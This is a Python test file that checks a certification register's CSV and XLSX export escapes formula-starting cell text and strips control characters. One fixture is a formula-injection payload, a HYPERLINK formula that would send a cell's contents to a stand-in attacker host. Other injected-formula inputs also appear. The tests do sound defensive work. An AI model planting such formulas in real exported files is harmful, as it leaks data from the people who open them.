"""Register cells are text in Excel, never formulas, and never crash on characters XLSX forbids."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest

from grading.reports.messages import Messages
from grading.reports.register import RegisterRow, spreadsheet_text, write_csv, write_xlsx

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"点击查看证书")'
ISSUED, EXPIRES = dt.date(2026, 1, 15), dt.date(2028, 1, 15)


def row(name: str, org_unit: str = "杭州分行", email: str = "t1@bank.example", why: str = "") -> RegisterRow:
    return RegisterRow(
        "t1", name, email, org_unit, "初级客户经理认证考试", "assoc", "初级客户经理", "certified", "总分 90%",
        30.0, 34.0, "valid", ISSUED, EXPIRES, "CMA-1", ISSUED, why,
    )  # fmt: skip


@pytest.fixture
def msg() -> Messages:
    return Messages.for_language("zh")


def csv_rows(rows: list[RegisterRow], tmp_path: Path, msg: Messages) -> list[list[str]]:
    raw = write_csv(rows, tmp_path / "register.csv", msg).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(raw, newline="")))[1:]


def xlsx_cells(rows: list[RegisterRow], tmp_path: Path, msg: Messages) -> list[tuple[Any, ...]]:
    from openpyxl import load_workbook

    sheet = load_workbook(write_xlsx(rows, tmp_path / "register.xlsx", msg)).active
    assert sheet is not None
    return list(sheet.iter_rows(min_row=2))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_is_left_alone() -> None:
    assert spreadsheet_text("张三 (杭州) - 1") == "张三 (杭州) - 1"


def test_hyperlink_name_is_quoted_text_in_csv(tmp_path: Path, msg: Messages) -> None:
    (line,) = csv_rows([row(HYPERLINK, "@SUM(1+1)")], tmp_path, msg)
    assert (line[1], line[3]) == (f"'{HYPERLINK}", "'@SUM(1+1)")
    assert line[11:13] == ["2026-01-15", "2028-01-15"]


def test_the_new_text_columns_are_neutralised_too(tmp_path: Path, msg: Messages) -> None:
    (line,) = csv_rows([row("张三", email="=1+1@x", why="-2+3")], tmp_path, msg)
    assert (line[2], line[15]) == ("'=1+1@x", "'-2+3")
    assert line[8:10] == ["30", "34"]  # scores are numbers, not text
    (cells,) = xlsx_cells([row("张三", email="=1+1@x", why="-2+3")], tmp_path, msg)
    assert (cells[2].value, cells[2].data_type) == ("'=1+1@x", "s")
    assert (cells[15].value, cells[15].data_type) == ("'-2+3", "s")
    assert (cells[8].value, cells[8].data_type) == (30.0, "n")


def test_hyperlink_name_is_a_string_cell_in_xlsx_and_dates_stay_dates(tmp_path: Path, msg: Messages) -> None:
    (cells,) = xlsx_cells([row(HYPERLINK, "+1")], tmp_path, msg)
    name, org_unit, issued = cells[1], cells[3], cells[11]
    assert (name.value, name.data_type) == (f"'{HYPERLINK}", "s")
    assert (org_unit.value, org_unit.data_type) == ("'+1", "s")
    assert issued.is_date and issued.value == dt.datetime(2026, 1, 15)


def test_control_characters_in_an_old_name_are_dropped_not_fatal(tmp_path: Path, msg: Messages) -> None:
    stored = "张\x00三\x07\x1b"  # as a database imported before roster checks may hold it
    (cells,) = xlsx_cells([row(stored)], tmp_path, msg)
    assert cells[1].value == "张三"
    assert csv_rows([row(stored)], tmp_path, msg)[0][1] == "张三"


def test_control_character_before_a_formula_does_not_hide_it(tmp_path: Path, msg: Messages) -> None:
    (cells,) = xlsx_cells([row("\x01=1+1")], tmp_path, msg)
    assert (cells[1].value, cells[1].data_type) == ("'=1+1", "s")
